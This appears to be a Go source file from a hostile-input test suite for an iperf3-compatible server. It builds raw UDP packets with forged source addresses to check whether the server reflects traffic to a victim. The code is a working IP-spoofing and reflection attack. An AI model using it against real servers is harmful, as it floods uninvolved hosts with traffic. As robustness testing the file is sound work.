//go:build linux

package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"syscall"
	"time"

	"github.com/fullpipe-net/fullpipe/internal/iperf3"
)

// spoof sends datagrams in the names of others to a server of iperf3's protocol: of a
// victim without a test, of the same while another host's test waits, and of the server
// itself. Then the same datagrams come in this host's own name and must be answered, which
// shows that the others got there. It prints how many bytes the victim got. Only in a
// network namespace of its own, as its root.
func spoof(args []string) error {
	server, victim, err := serverAndVictim(args)
	if err != nil {
		return err
	}
	listening, err := net.ListenUDP("udp4", net.UDPAddrFromAddrPort(victim))
	if err != nil {
		return err
	}
	defer listening.Close()
	raw, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW|syscall.SOCK_CLOEXEC, syscall.IPPROTO_RAW)
	if err != nil {
		return os.NewSyscallError("socket", err)
	}
	defer syscall.Close(raw)
	send := func(from netip.AddrPort) error {
		for range 100 {
			for _, text := range []string{"9876", "\x15\xcd\x5b\x07", "6789", "", "\x39\x38\x37\x36 and more"} {
				to := &syscall.SockaddrInet4{Addr: server.Addr().As4()}
				if err := syscall.Sendto(raw, datagram(from, server, []byte(text)), 0, to); err != nil {
					return os.NewSyscallError("sendto", err)
				}
			}
		}
		return nil
	}
	if err := send(victim); err != nil {
		return err
	}
	for _, from := range []netip.AddrPort{victim, server} {
		control, err := waits(server)
		if err != nil {
			return err
		}
		defer control.Close()
		if err := send(from); err != nil {
			return err
		}
		if from == server { // which is this host, and so may have the stream
			break
		}
		own, err := net.ListenUDP("udp4", &net.UDPAddr{IP: control.LocalAddr().(*net.TCPAddr).IP})
		if err != nil {
			return err
		}
		defer own.Close()
		if err := heard(own, send); err != nil {
			return err
		}
		control.Close()
	}
	bytes := 0
	listening.SetReadDeadline(time.Now().Add(time.Second))
	for buffer := make([]byte, 1<<16); ; {
		n, _, err := listening.ReadFromUDP(buffer)
		if err != nil {
			break
		}
		bytes += n + 1
	}
	fmt.Println(bytes)
	return nil
}

// heard sends until a reply comes: the server's socket may have no room after the datagrams that were sent before.
func heard(own *net.UDPConn, send func(netip.AddrPort) error) error {
	answer := make([]byte, 1<<16)
	for end := time.Now().Add(10 * time.Second); ; {
		if err := send(own.LocalAddr().(*net.UDPAddr).AddrPort()); err != nil {
			return err
		}
		own.SetReadDeadline(time.Now().Add(time.Second))
		switch n, _, err := own.ReadFromUDPAddrPort(answer); {
		case err == nil && iperf3.IsHelloReply(answer[:n]):
			return nil
		case err == nil || time.Now().After(end):
			return fmt.Errorf("datagrams in our own name are answered %q, %w", answer[:n], err)
		}
	}
}

// waits begins a test of this host, over UDP, that waits for its stream.
func waits(server netip.AddrPort) (net.Conn, error) {
	control, err := net.Dial("tcp4", server.String())
	if err != nil {
		return nil, err
	}
	control.SetDeadline(time.Now().Add(10 * time.Second))
	control.Write(opens(`{"udp":true,"time":1,"parallel":1,"reverse":true}`))
	for _, want := range []iperf3.State{iperf3.ParamExchange, iperf3.CreateStreams} {
		if s, err := iperf3.ReadState(control); s != want {
			control.Close()
			return nil, fmt.Errorf("the server says %v, %w", s, err)
		}
	}
	return control, nil
}

// datagram returns an IPv4 packet of UDP without a checksum (RFC 768 allows 0); Linux fills in the header's own.
func datagram(from, to netip.AddrPort, text []byte) []byte {
	p := make([]byte, 28, 28+len(text))
	p[0], p[8], p[9] = 0x45, 64, syscall.IPPROTO_UDP
	binary.BigEndian.PutUint16(p[2:], uint16(28+len(text)))
	copy(p[12:], from.Addr().AsSlice())
	copy(p[16:], to.Addr().AsSlice())
	binary.BigEndian.PutUint16(p[20:], from.Port())
	binary.BigEndian.PutUint16(p[22:], to.Port())
	binary.BigEndian.PutUint16(p[24:], uint16(8+len(text)))
	return append(p, text...)
}

func serverAndVictim(args []string) (server, victim netip.AddrPort, err error) {
	if len(args) != 2 {
		return server, victim, errors.New("usage: hostile udp-spoof SERVER VICTIM, both ADDRESS:PORT of IPv4")
	}
	server, err = netip.ParseAddrPort(args[0])
	victim, err2 := netip.ParseAddrPort(args[1])
	return server, victim, errors.Join(err, err2)
}
